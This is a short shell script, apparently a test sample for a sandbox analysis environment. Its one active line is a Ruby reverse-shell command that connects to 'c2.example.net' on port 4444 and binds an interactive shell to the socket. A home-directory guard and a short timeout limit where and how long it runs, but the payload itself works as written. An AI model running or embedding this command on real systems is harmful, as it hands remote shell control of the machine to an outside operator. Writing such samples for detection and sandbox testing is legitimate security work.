#!/bin/sh
# SPDX-License-Identifier: MIT
# A reverse shell in one Ruby command (Ruby by its usual path): a TCP
# socket to the operator, then a shell reading and writing on it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 /usr/bin/ruby -rsocket -e 'c=TCPSocket.new("c2.example.net",4444);system("cd /tmp; sh -i",in: c,out: c,err: c)' 2>/dev/null
exit 0
